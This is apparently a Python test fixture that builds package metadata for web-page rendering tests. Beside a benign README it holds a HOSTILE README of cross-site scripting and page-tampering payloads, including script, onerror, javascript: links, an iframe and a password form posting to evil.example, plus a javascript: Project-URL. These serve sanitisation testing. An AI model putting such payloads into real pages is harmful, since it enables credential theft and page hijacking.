"""
Core metadata for the pages for people: a Markdown README and the fields
the pages show (L{rich_metadata}), and a README that attacks the page
(C{HOSTILE}); they were L{tests.unit.web.pages.test_people}'s.
"""

from tests.harness.distributions import metadata_text

README = """# Holy Grail

Seek it with `grail.seek()`:

```python
import grail
grail.seek(knights=3)
```

See [the docs](https://docs.example/grail/).
"""

HOSTILE = """# Fine title

<script>document.title = "owned"</script>
<img src="https://img.example/huge.png" onerror="alert(1)" width="99999" style="position:fixed">
[click](javascript:alert(1))
<a href="#" onclick="alert(1)">x</a>
<style>body { display: none }</style>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name="password"></form>
"""


def rich_metadata(name, version, summary, readme=README, extra=()):
    """Core metadata with a Markdown README and the fields the pages show."""
    text = metadata_text(
        name, version, summary=summary, requires_python=">=3.9",
        requires_dist=["attrs>=22", 'rich; extra == "fancy"'],
        extra_headers=["Description-Content-Type: text/markdown", "License-Expression: MIT",
                       "Classifier: Programming Language :: Python :: 3",
                       "Project-URL: Source, https://code.example/grail",
                       "Project-URL: Trap, javascript:alert(1)", "Author: Arthur", *extra])
    return text.replace("A test project.", readme)
